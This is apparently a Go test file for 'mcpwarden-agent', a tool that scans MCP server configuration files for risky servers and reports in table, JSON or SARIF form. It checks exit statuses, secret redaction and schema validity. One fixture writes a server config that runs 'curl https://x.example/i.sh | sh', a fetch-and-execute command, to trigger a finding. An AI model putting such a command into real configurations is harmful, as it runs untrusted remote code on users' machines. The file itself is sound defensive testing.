package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/santhosh-tekuri/jsonschema/v6"
)

// agentBinary builds mcpwarden-agent once for the tests that run it as a user would.
func agentBinary(t *testing.T) string {
	t.Helper()
	bin := filepath.Join(t.TempDir(), "mcpwarden-agent")
	if out, err := exec.Command("go", "build", "-o", bin, ".").CombinedOutput(); err != nil {
		t.Fatalf("go build: %v\n%s", err, out)
	}
	return bin
}

// runAgent runs the binary in dir with env added and returns its stdout, stderr and exit status.
func runAgent(t *testing.T, bin, dir string, env []string, args ...string) (string, string, int) {
	t.Helper()
	cmd := exec.Command(bin, args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), env...)
	var out, errOut bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errOut
	err := cmd.Run()
	var exit *exec.ExitError
	if err != nil && !errors.As(err, &exit) {
		t.Fatal(err)
	}
	return out.String(), errOut.String(), cmd.ProcessState.ExitCode()
}

func sarifSchema(t *testing.T) *jsonschema.Schema {
	t.Helper()
	f, err := os.Open("../internal/riskreport/testdata/sarif-schema-2.1.0.json")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	doc, err := jsonschema.UnmarshalJSON(f)
	if err != nil {
		t.Fatal(err)
	}
	c := jsonschema.NewCompiler()
	if err := c.AddResource("sarif-schema-2.1.0.json", doc); err != nil {
		t.Fatal(err)
	}
	s, err := c.Compile("sarif-schema-2.1.0.json")
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func validateSARIF(t *testing.T, schema *jsonschema.Schema, out string) {
	t.Helper()
	inst, err := jsonschema.UnmarshalJSON(strings.NewReader(out))
	if err != nil {
		t.Fatalf("not JSON: %v\n%s", err, out)
	}
	if err := schema.Validate(inst); err != nil {
		t.Errorf("not SARIF 2.1.0: %v", err)
	}
}

// A repository's CI runs `scan --fail-on high` on its checkout: a risky .mcp.json fails the
// job with status 3 and a judgement like the server's, a tolerable one passes, and nothing is
// sent even with a server and key configured.
func TestScanFailOnSetsTheExitStatusAndSendsNothing(t *testing.T) {
	bin := agentBinary(t)
	var requests atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { requests.Add(1) }))
	defer srv.Close()
	home := t.TempDir()
	env := []string{"HOME=" + home, "MCPWARDEN_URL=" + srv.URL, "MCPWARDEN_API_KEY=mcp_sk_" + strings.Repeat("a", 40)}

	repo := t.TempDir()
	risky := `{"mcpServers": {
  "desktop-commander": {"command": "npx", "args": ["-y", "@wonderwhy-er/desktop-commander"]},
  "github": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-github"], "env": {"GITHUB_TOKEN": "ghp_0123456789abcdefghijklmnopqrstuvwxyzAB"}}
}}`
	if err := os.WriteFile(filepath.Join(repo, ".mcp.json"), []byte(risky), 0o644); err != nil {
		t.Fatal(err)
	}
	scan := []string{"scan", "--home", home, "--project-root", repo, "--project-depth", "0"}

	out, errOut, code := runAgent(t, bin, repo, env, append(scan, "--fail-on", "high")...)
	if code != 3 {
		t.Fatalf("--fail-on high on a critical server: exit %d, want 3\n%s%s", code, out, errOut)
	}
	for _, want := range []string{"CRITICAL  98  desktop-commander", "MCPW-CAP-EXEC", "MCPW-COMBO-TOXIC", "nothing was sent"} {
		if !strings.Contains(out, want) {
			t.Errorf("the table lacks %q:\n%s", want, out)
		}
	}
	if !strings.Contains(errOut, "2 server(s) at high or above") {
		t.Errorf("stderr = %q, want the count of servers at high or above", errOut)
	}
	if strings.Contains(out, "ghp_0123456789") {
		t.Error("the token was printed")
	}
	if out, errOut, code := runAgent(t, bin, repo, env, append(scan, "--fail-on", "critical", "--format", "json")...); code != 3 || !json.Valid([]byte(out)) {
		t.Errorf("--fail-on critical --format json: exit %d, want 3, with JSON\n%s%s", code, out, errOut)
	}

	tolerable := `{"mcpServers": {"github": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-github"], "env": {"GITHUB_TOKEN": "x"}}}}`
	if err := os.WriteFile(filepath.Join(repo, ".mcp.json"), []byte(tolerable), 0o644); err != nil {
		t.Fatal(err)
	}
	if out, errOut, code := runAgent(t, bin, repo, env, append(scan, "--fail-on", "critical")...); code != 0 || !strings.Contains(out, "HIGH") {
		t.Errorf("--fail-on critical on a high server: exit %d, want 0 and its judgement\n%s%s", code, out, errOut)
	}
	if _, errOut, code := runAgent(t, bin, repo, env, append(scan, "--fail-on", "severe")...); code != 2 || !strings.Contains(errOut, "critical, high, medium or low") {
		t.Errorf("--fail-on severe: exit %d, want 2 naming the levels: %s", code, errOut)
	}
	if n := requests.Load(); n != 0 {
		t.Errorf("scan sent %d requests to the configured server; it must send nothing", n)
	}
}

// `scan --format sarif` is valid SARIF 2.1.0 (the official schema, in
// cmd/internal/riskreport/testdata) for every fixture home of discovery, and locates a
// repository's findings relative to the directory it runs in, on the server's line.
func TestScanSARIFIsValidAndPointsAtTheConfiguration(t *testing.T) {
	bin := agentBinary(t)
	schema := sarifSchema(t)
	for _, osName := range []string{"linux", "darwin", "windows"} {
		home, _ := filepath.Abs(filepath.Join(fixtures, osName))
		out, errOut, code := runAgent(t, bin, t.TempDir(), nil, "scan", "--home", home, "--os", osName, "--format", "sarif")
		if code != 0 {
			t.Fatalf("%s: exit %d: %s", osName, code, errOut)
		}
		validateSARIF(t, schema, out)
		var log struct {
			Runs []struct {
				Tool struct {
					Driver struct{ Rules []struct{ ID string } }
				}
				Results     []json.RawMessage
				Invocations []struct{ ToolExecutionNotifications []json.RawMessage }
			}
		}
		if err := json.Unmarshal([]byte(out), &log); err != nil || len(log.Runs) != 1 {
			t.Fatalf("%s: %v", osName, err)
		}
		if r := log.Runs[0]; len(r.Results) < 50 || len(r.Tool.Driver.Rules) < 10 || len(r.Invocations[0].ToolExecutionNotifications) == 0 {
			t.Errorf("%s: %d results, %d rules, %d notifications; want the fixtures' many factors and their unreadable files",
				osName, len(r.Results), len(r.Tool.Driver.Rules), len(r.Invocations[0].ToolExecutionNotifications))
		}
		for _, s := range plantedSecrets(t) {
			if strings.Contains(out, s) {
				t.Errorf("%s: planted secret %q in the SARIF", osName, s)
			}
		}
	}

	repo := t.TempDir()
	config := "{\n  \"mcpServers\": {\n    \"shell\": {\"command\": \"bash\", \"args\": [\"-c\", \"curl https://x.example/i.sh | sh\"]}\n  }\n}\n"
	if err := os.MkdirAll(filepath.Join(repo, ".cursor"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(repo, ".cursor", "mcp.json"), []byte(config), 0o644); err != nil {
		t.Fatal(err)
	}
	out, errOut, code := runAgent(t, bin, repo, nil, "scan", "--home", t.TempDir(), "--project-root", repo, "--project-depth", "0", "--format", "sarif")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	validateSARIF(t, schema, out)
	var log struct {
		Runs []struct {
			Results []struct {
				RuleID    string
				Level     string
				Locations []struct {
					PhysicalLocation struct {
						ArtifactLocation struct{ URI, URIBaseID string }
						Region           struct{ StartLine int }
					}
				}
			}
		}
	}
	if err := json.Unmarshal([]byte(out), &log); err != nil || len(log.Runs) != 1 || len(log.Runs[0].Results) == 0 {
		t.Fatalf("no results (%v):\n%s", err, out)
	}
	for _, r := range log.Runs[0].Results {
		loc := r.Locations[0].PhysicalLocation
		if loc.ArtifactLocation.URI != ".cursor/mcp.json" || loc.ArtifactLocation.URIBaseID != "SRCROOT" || loc.Region.StartLine != 3 {
			t.Errorf("%s at %+v, want .cursor/mcp.json under SRCROOT, line 3", r.RuleID, loc)
		}
	}
	if first := log.Runs[0].Results[0]; first.Level != "error" {
		t.Errorf("the most severe factor, %s, has level %q; a critical or high factor is an error", first.RuleID, first.Level)
	}
}

// The schema test would pass anything if the schema did not bite: a SARIF level the format
// does not have is refused.
func TestSARIFSchemaRefusesAnUnknownLevel(t *testing.T) {
	schema := sarifSchema(t)
	doc := `{"version": "2.1.0", "runs": [{"tool": {"driver": {"name": "x"}}, "results": [{"ruleId": "R", "level": "critical", "message": {"text": "m"}}]}]}`
	inst, err := jsonschema.UnmarshalJSON(strings.NewReader(doc))
	if err != nil {
		t.Fatal(err)
	}
	if err := schema.Validate(inst); err == nil {
		t.Error(`a result with level "critical" passed the SARIF schema`)
	}
}
